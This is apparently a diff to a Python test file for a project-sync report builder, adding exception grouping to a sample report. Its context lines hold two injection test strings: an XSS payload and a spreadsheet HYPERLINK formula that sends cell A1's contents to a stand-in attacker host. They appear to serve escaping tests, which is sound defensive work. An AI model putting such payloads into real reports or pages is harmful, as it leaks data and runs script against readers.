@@ -8,6 +8,7 @@ from decimal import Decimal
 from pmsync.model import SourceRef
 from pmsync.reconcile import results as r
 from pmsync.report import model as m
+from pmsync.report.exceptions import group_exceptions
 
 XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
 HYPERLINK = '=HYPERLINK("http://evil.invalid/?d="&A1,"Click")'
@@ -300,6 +301,7 @@ def sample_report() -> m.Report:
                 note="last synced 10 days before the report",
             ),
         ],
+        exception_groups=group_exceptions(erp_measures().exceptions),
         changes=[
             m.Change(
                 project="ERP",
